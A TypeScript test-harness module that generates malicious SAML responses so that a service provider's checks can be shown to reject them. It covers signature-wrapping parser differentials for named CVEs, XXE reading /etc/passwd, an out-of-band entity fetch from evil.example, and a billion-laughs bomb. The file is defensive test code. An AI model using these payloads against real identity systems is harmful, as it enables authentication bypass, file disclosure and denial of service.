// Parser attacks: documents two XML parsers read differently, or that make a parser fetch,
// read or expand something. Multiple roots (row 11, CVE-2022-39353), DOCTYPE and namespace
// parser differentials (row 20, ruby-saml CVE-2025-25291/25292 as SAML Raider applies them),
// external entities (row 23) and entity expansion (row 24). The DOCTYPE and the entity
// references are byte edits: a DOM cannot hold them. Our SP refuses them at the XML check.
import { createHash } from 'node:crypto';
import { HarnessError } from '../../errors.js';
import { childPath, firstChild } from '../dom.js';
import type { ResponseSpec } from '../response-builder.js';
import { DIGEST_ALGORITHMS, NS } from '../urn.js';
import { escapeText } from '../xml-builder.js';
import {
  assertionIn,
  coveringSignature,
  digestMethodOf,
  digestValueIn,
  editXml,
  impersonate,
  nameIdMarkup,
  referenceIn,
  removeSignatures,
  required,
  setText,
} from './dom-edit.js';
import { attackOn, genuine, reject } from './spec-edit.js';
import type { ResponseScenario } from './types.js';

const RESPONSE_END = '</samlp:Response>';

/** Prepends a DOCTYPE (with an internal subset) before the document element. */
export function withDoctype(xml: string, subset = ''): string {
  return `<!DOCTYPE samlp:Response${subset ? ` [${subset}]` : ''}>${xml}`;
}

/** The genuine response with its NameID text replaced by an entity reference. */
function withEntityInNameId(spec: ResponseSpec, entity: string): string {
  return nameIdMarkup(genuine(spec), escapeText(spec.nameId), `&${entity};`);
}

/** Row 11: <R>signed</R><R>evil</R>; xmldom before 0.8.4 kept both roots. */
function multipleRoots(spec: ResponseSpec): string {
  const xml = genuine(spec);
  return xml + editXml(xml, (response) => impersonate(assertionIn(response)));
}

function withoutEnd(xml: string): string {
  const end = xml.lastIndexOf(RESPONSE_END);
  if (end < 0) throw new HarnessError('INTERNAL', `scenario: the response does not end with ${RESPONSE_END}`);
  return xml.slice(0, end);
}

/**
 * Row 20, CVE-2025-25291: REXML reads the SYSTEM literal as 'x"><!--' and sees the evil
 * Response, with the genuine one in a CDATA section; libxml2 ends the literal at the quote,
 * opens a comment and sees the genuine, signed Response.
 */
function doctypeDifferential(spec: ResponseSpec): string {
  const xml = genuine(spec);
  const evil = editXml(xml, (response) => impersonate(assertionIn(response)));
  return `<!DOCTYPE response SYSTEM 'x"><!--'>\n${withoutEnd(evil)}<![CDATA[-->\n${withoutEnd(xml)}<!--]]>-->\n${RESPONSE_END}`;
}

/** A payload namespace name with a C1 control character, which REXML and libxml2 treat differently. */
const CONFUSING_NAMESPACE = 'http://example.com\u0080';

/**
 * Row 20, CVE-2025-25292: an ATTLIST gives an unqualified <Signature> the XML-DSig namespace for
 * one parser only. The genuine signature goes, unqualified, into StatusDetail; the assertion,
 * edited, gets a copy whose DigestValue is the digest of nothing.
 */
function namespaceConfusion(spec: ResponseSpec): string {
  const xml = attackOn(spec, (response, doc) => {
    const assertion = assertionIn(response);
    const source = coveringSignature(response);
    const referenced = (referenceIn(source).getAttribute('URI') ?? '').slice(1);
    const assertionSigned = source.parentNode === assertion;
    removeSignatures(response);
    const copy = source.cloneNode(true) as Element;
    const reference = referenceIn(copy);
    const hash = (DIGEST_ALGORITHMS as Record<string, { hash: string }>)[digestMethodOf(reference)]?.hash ?? 'sha256';
    setText(digestValueIn(reference), createHash(hash).update('').digest('base64'));
    const issuer = required(firstChild(assertion, NS.assertion, 'Issuer'), 'an assertion Issuer');
    assertion.insertBefore(copy, issuer.nextSibling);
    assertion.setAttribute('xmlns:example', CONFUSING_NAMESPACE);
    const detail = doc.createElementNS(NS.protocol, 'samlp:StatusDetail');
    required(childPath(response, [NS.protocol, 'Status']), 'a Status').appendChild(detail);
    const unqualified = doc.createElementNS(null, 'Signature');
    for (let n = source.firstChild; n; n = n.nextSibling) unqualified.appendChild(n.cloneNode(true));
    detail.appendChild(unqualified);
    response.setAttribute('xmlns:ds', NS.dsig);
    if (!assertionSigned) {
      assertion.setAttribute('ID', referenced);
      response.setAttribute('ID', `${referenced}ffff`);
    }
    impersonate(assertion);
  });
  return `<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED "${NS.dsig}" xmlns CDATA "block">]>${xml}`;
}

/** Nine levels of ten: 10^9 "lol"s once expanded. */
const BILLION_LAUGHS = [
  '<!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
].join('');

const FORBIDDEN = reject('SAML_XML_FORBIDDEN');

export const PARSER_SCENARIOS: readonly ResponseScenario[] = [
  {
    id: 'multiple-root-elements',
    title: 'The signed Response followed by a second, evil document element',
    row: 11,
    kind: 'attack',
    expect: reject('SAML_XML_MALFORMED'),
    build: (ctx) => ({ xml: multipleRoots(ctx.spec) }),
  },
  {
    id: 'doctype-parser-differential',
    title: "A DOCTYPE whose SYSTEM literal shows one parser the evil Response and another the signed one (CVE-2025-25291)",
    row: 20,
    kind: 'attack',
    expect: FORBIDDEN,
    build: (ctx) => ({ xml: doctypeDifferential(ctx.spec) }),
  },
  {
    id: 'namespace-confusion-attlist',
    title: 'An ATTLIST puts an unqualified Signature in the XML-DSig namespace for one parser only (CVE-2025-25292)',
    row: 20,
    kind: 'attack',
    expect: FORBIDDEN,
    build: (ctx) => ({ xml: namespaceConfusion(ctx.spec) }),
  },
  {
    id: 'xxe-external-entity',
    title: 'The NameID is an external entity reading file:///etc/passwd (XXE)',
    row: 23,
    kind: 'attack',
    expect: FORBIDDEN,
    build: (ctx) => ({ xml: withDoctype(withEntityInNameId(ctx.spec, 'xxe'), '<!ENTITY xxe SYSTEM "file:///etc/passwd">') }),
  },
  {
    id: 'xxe-parameter-entity',
    title: 'A parameter entity fetching an external DTD from the attacker (out-of-band XXE)',
    row: 23,
    kind: 'attack',
    expect: FORBIDDEN,
    build: (ctx) => ({ xml: withDoctype(genuine(ctx.spec), '<!ENTITY % remote SYSTEM "https://evil.example/xxe.dtd">%remote;') }),
  },
  {
    id: 'billion-laughs',
    title: 'The NameID is an entity that expands to a billion "lol"s (entity expansion)',
    row: 24,
    kind: 'attack',
    expect: FORBIDDEN,
    build: (ctx) => ({ xml: withDoctype(withEntityInNameId(ctx.spec, 'lol9'), BILLION_LAUGHS) }),
  },
];
